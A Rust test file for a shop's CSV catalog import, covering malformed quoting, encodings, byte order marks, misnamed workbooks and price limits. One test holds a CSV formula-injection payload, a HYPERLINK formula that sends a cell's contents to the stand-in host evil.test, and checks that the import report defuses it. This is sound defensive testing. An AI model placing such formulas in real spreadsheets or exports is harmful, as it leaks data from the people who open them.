//! Files that people sent and that were lost, misread or misused once.

use domain::catalog::import::ImportOutcome;

use super::shop::Shop;

const HEADER: &str = "sku,name,description,price,currency,stock\n";

/// What an import of a file came to.
struct Imported {
    shop: Shop,
    rows: (u64, u64),
    subject: String,
}

impl Imported {
    async fn file(file: impl AsRef<[u8]>) -> Self {
        let shop = Shop::with_file(file).await;
        let ImportOutcome::Done(counts) = shop.import().await.unwrap() else {
            panic!("the file can be used")
        };
        let subject = shop.mails()[0].subject.clone();
        Self {
            shop,
            rows: (counts.rows_written, counts.rows_rejected),
            subject: subject.strip_prefix("Your catalog spring <1>.csv ").unwrap().to_owned(),
        }
    }

    async fn rows(rows: &str) -> Self {
        Self::file(format!("{HEADER}{rows}")).await
    }

    fn report(&self) -> String {
        self.shop.report_text()
    }

    fn skus(&self) -> Vec<String> {
        let (products, ..) = self.shop.effects();
        products.iter().map(|(_, row)| row.sku.to_string()).collect()
    }
}

async fn reason(file: impl AsRef<[u8]>) -> String {
    match Shop::with_file(file).await.import().await.unwrap() {
        ImportOutcome::Rejected { reason } => reason,
        other => panic!("the file is unusable, got {other:?}"),
    }
}

#[tokio::test(start_paused = true)]
async fn a_stray_opening_quote_sells_no_product_of_two_rows() {
    let others = (1..=5)
        .map(|n| format!("H01-{n},\"Cup {n}\",\"words\",1,EUR,1\n"))
        .collect::<Vec<_>>()
        .concat();
    let imported = Imported::rows(&format!("H01-A,\"Cup,x,1,EUR,1\n{others}")).await;
    assert_eq!(imported.skus(), ["H01-2", "H01-3", "H01-4", "H01-5"]);
    assert_eq!(imported.rows, (4, 1));
    assert!(
        imported.report().contains("the row covers the lines 2 to 3"),
        "{}",
        imported.report()
    );
}

#[tokio::test(start_paused = true)]
async fn quotes_behind_backslashes_are_rejected() {
    let imported = Imported::rows("H02-A,\"12\\\" plate\",\"a \\\"b\\\" c\",1,EUR,1\nH02-B,Cup,x,1,EUR,1\n").await;
    assert_eq!(imported.skus(), ["H02-B"]);
    assert!(
        imported
            .report()
            .contains("a quote within a quoted field is written twice")
    );
}

#[tokio::test(start_paused = true)]
async fn formulas_behind_semicolons_and_nuls_are_guarded() {
    let formula = "H03-A,\"x;=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"ok\"\");y\",d,bad,EUR,1\n";
    let imported = Imported::rows(&format!(
        "{formula}H15-A,\0=1+1,d,bad,EUR,1\nH15-B,\0\0=1+1,d,bad,EUR,1\n"
    ))
    .await;
    let report = imported.report();
    assert!(report.contains("x;'=HYPERLINK"), "{report}");
    assert!(report.contains("'\0=1+1") && report.contains("'\0\0=1+1"), "{report}");
}

#[tokio::test(start_paused = true)]
async fn a_description_comes_back_whole_when_the_price_was_corrected() {
    let description = "words ".repeat(466);
    let imported = Imported::rows(&format!("H04-A,Cup,{description},bad,EUR,1\n")).await;
    let corrected = Imported::file(imported.report().replace("bad", "7.50")).await;
    let (products, ..) = corrected.shop.effects();
    assert_eq!(products[0].1.details.description, description);
}

#[tokio::test(start_paused = true)]
async fn the_subject_of_an_import_without_a_valid_row_says_so() {
    let imported = Imported::rows("H05-0,Cup,x,,EUR,1\nH05-1,Cup,x,,EUR,1\nH05-2,Cup,x,,EUR,1\n").await;
    assert_eq!((imported.rows, imported.subject.as_str()), ((0, 3), "was not imported"));
    assert!(imported.report().contains("price: the price is empty"));
}

#[tokio::test(start_paused = true)]
async fn rows_that_a_spreadsheet_left_empty_are_skipped() {
    let imported = Imported::rows(&format!("H06-A,Cup,x,1,EUR,1\n{}", ",,,,,\n".repeat(200))).await;
    assert_eq!((imported.rows, imported.subject.as_str()), ((1, 0), "was imported"));
}

#[tokio::test(start_paused = true)]
async fn the_separator_of_a_file_with_commas_in_its_column_names_is_named() {
    let header = "id;sku;name;categories (x,y,z);description;price;currency;stock\n1;H07-A;Cup;a;x;7.50;EUR;3\n";
    assert!(reason(header).await.contains("semicolons"));
}

#[tokio::test(start_paused = true)]
async fn byte_order_marks_of_joined_files_become_no_part_of_a_sku() {
    let imported = Imported::rows("H08-A,Cup,x,1,EUR,1\n\u{feff}H08-B,Cup,x,1,EUR,1\n").await;
    assert_eq!(imported.skus(), ["H08-A"]);
    assert!(imported.report().contains("<U+FEFF>"));
    let twice = Imported::file(format!("\u{feff}\u{feff}{HEADER}H09-A,Cup,x,1,EUR,1\n")).await;
    assert_eq!(twice.skus(), ["H09-A"]);
}

#[tokio::test(start_paused = true)]
async fn a_row_with_a_comma_too_many_keeps_all_its_cells() {
    let imported = Imported::rows("H10-A,Cup,big, blue,7.50,EUR,3\n").await;
    assert!(
        imported.report().ends_with("H10-A,Cup,big,\" blue\",7.50,EUR,3\r\n"),
        "{}",
        imported.report()
    );
}

#[tokio::test(start_paused = true)]
async fn a_workbook_with_the_name_of_a_csv_file_is_called_one() {
    let workbook =
        b"PK\x03\x04\x14\0\0\0\x08\0\x12\x9d~]}\x8f\xc39J\0\0\0M\0\0\0\x13\0\0\0[Content_Types].xml\xb3)\xc8";
    let reason = reason(workbook).await;
    assert!(
        reason.contains("Excel workbook") && reason.contains("CSV UTF-8"),
        "{reason}"
    );
}

#[tokio::test(start_paused = true)]
async fn a_row_may_lack_its_last_cell_where_that_is_ignored() {
    let file = "sku,name,description,price,currency,stock,note\nH12-A,Cup,x,1,EUR,1,hello\nH12-B,Cup,x,1,EUR,1\n";
    assert_eq!(Imported::file(file).await.rows, (2, 0));
}

#[tokio::test(start_paused = true)]
async fn text_of_windows_1252_is_refused_again_when_the_report_comes_back() {
    let mut file = HEADER.as_bytes().to_vec();
    file.extend_from_slice(b"H13-A,K\xe4se,F\xfcr G\xe4ste,7.50,EUR,3\n");
    let imported = Imported::file(file).await;
    assert_eq!(imported.rows, (0, 1));
    let again = Imported::file(imported.report()).await;
    assert_eq!(again.rows, (0, 1));
    assert!(
        again.report().contains("name: the text has <U+FFFD>"),
        "{}",
        again.report()
    );
}

#[tokio::test(start_paused = true)]
async fn the_limit_of_a_price_is_in_the_unit_of_its_column() {
    let imported = Imported::rows("H14-A,Cup,x,99999999999,EUR,1\n").await;
    assert!(
        imported
            .report()
            .contains("price: the price is more than 9999999999.99 EUR")
    );
}
